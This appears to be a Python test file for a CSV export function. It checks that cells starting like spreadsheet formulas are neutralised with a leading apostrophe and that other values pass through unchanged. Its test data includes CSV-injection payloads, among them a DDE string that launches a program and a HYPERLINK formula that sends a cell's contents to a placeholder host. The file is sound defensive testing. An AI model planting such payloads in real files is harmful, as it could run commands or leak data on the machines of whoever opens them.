"""Cells that somebody else wrote: they come back as they were, and no spreadsheet runs them."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from controlroom.domain.csv_text import BOM, table

RUNS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd",
    "-1+cmd",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '=HYPERLINK("http://x.example/"&A1)',
    "＝1+1",
    "－2+3",
    "-",
    "--5",
    "+84 234 123",
    "\0=1",
]  # fmt: skip
STAYS = ["-5", "-3.25", "-3,25", "5", "a=b", "12 Lê Lợi", "", "a-b", "'", "3+4"]


def read(text):
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", RUNS)
def test_formulas_become_texts(text):
    ((back,),) = read(table([[text]]))
    assert back.startswith("'")
    assert back[1:] == text.replace("\0", "")


@pytest.mark.parametrize("text", STAYS)
def test_what_is_no_formula_stays(text):
    assert read(table([[text, "x"]])) == [[text, "x"]]


def test_numbers_stay_numbers():
    assert table([[-5, -0.5, 7, None, True]]) == "-5,-0.5,7,,True\r\n"


def test_rows_end_as_the_standard_says():
    assert table([["a", "b"], ['x "y"', "1,2\n3"]]) == 'a,b\r\n"x ""y""","1,2\n3"\r\n'
    assert BOM.encode() == b"\xef\xbb\xbf"


TEXTS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=30)


@given(st.lists(st.lists(TEXTS, min_size=2, max_size=4), max_size=5))
def test_everything_comes_back_but_for_the_apostrophe(rows):
    back = read(table(rows))
    assert len(back) == len(rows)
    for row, was in zip(back, rows, strict=True):
        for text, before in zip(row, was, strict=True):
            assert text in (before, f"'{before}")


@given(TEXTS)
def test_no_cell_begins_like_a_formula(text):
    """The law: what a spreadsheet sees begins with nothing that starts one, or is a number."""
    ((seen, _),) = read(table([[text, "x"]]))
    bare = seen.strip()
    harmless = not bare or bare[0] not in "=+-@"
    assert harmless or float(bare.replace(",", ".")) < 1
